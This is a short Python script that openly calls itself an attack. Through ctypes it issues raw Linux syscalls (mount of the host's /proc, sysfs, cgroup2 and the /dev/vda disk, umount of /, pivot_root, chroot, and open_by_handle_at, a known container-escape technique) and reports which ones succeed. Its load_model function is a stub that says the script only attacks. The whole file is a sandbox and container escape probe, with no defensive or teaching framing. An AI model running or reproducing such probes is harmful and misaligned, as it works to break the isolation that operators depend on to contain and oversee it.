# Tries: to mount: disks, the host's /proc, writable copies of what is read-only, and off with what hides things.
import ctypes
import os


def call(name, number, *arguments):
    ctypes.set_errno(0)
    answer = ctypes.CDLL(None, use_errno=True).syscall(ctypes.c_long(number), *arguments)
    print("OBTAINED" if answer >= 0 else "refused", name, answer, ctypes.get_errno())
    return answer


def main():
    for source, target, kind, flags in (
        (b"proc", b"/scratch/m", b"proc", 0),
        (b"/", b"/scratch/m", None, 4096),
        (b"tmpfs", b"/usr", b"tmpfs", 0),
        (b"none", b"/", None, 32 | 4096),
        (b"/dev/vda", b"/scratch/m", b"ext4", 0),
        (b"cgroup2", b"/scratch/m", b"cgroup2", 0),
        (b"overlay", b"/scratch/m", b"overlay", 0),
        (b"sysfs", b"/scratch/m", b"sysfs", 0),
        (b"/job", b"/job", None, 32),
        (b"devpts", b"/scratch/m", b"devpts", 0),
        (b"mqueue", b"/scratch/m", b"mqueue", 0),
        (b"fuse", b"/scratch/m", b"fuse", 0),
    ):
        os.makedirs("/scratch/m", exist_ok=True)
        call(f"mount {target} {kind}", 165, source, target, kind, flags, 0)
    for target in (b"/", b"/proc", b"/tmp", b"/job", b"/usr", b"/dev", b"/scratch", b"/out"):
        call(f"umount {target}", 166, target, 2)
    call("pivot_root", 155, b"/scratch", b"/scratch/m")
    call("chroot", 161, b"/scratch")
    call("fsopen", 430, b"tmpfs", 0)
    call("open_tree", 428, -100, b"/", 1)
    call("move_mount", 429, -100, b"/scratch", -100, b"/usr", 0)
    call("mount_setattr", 442, -100, b"/", 0x8000, bytes(32), 32)
    call("open_by_handle_at", 304, -100, bytes(64), 0)
    call("name_to_handle_at", 303, -100, b"/", bytes(64), bytes(8), 0)


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
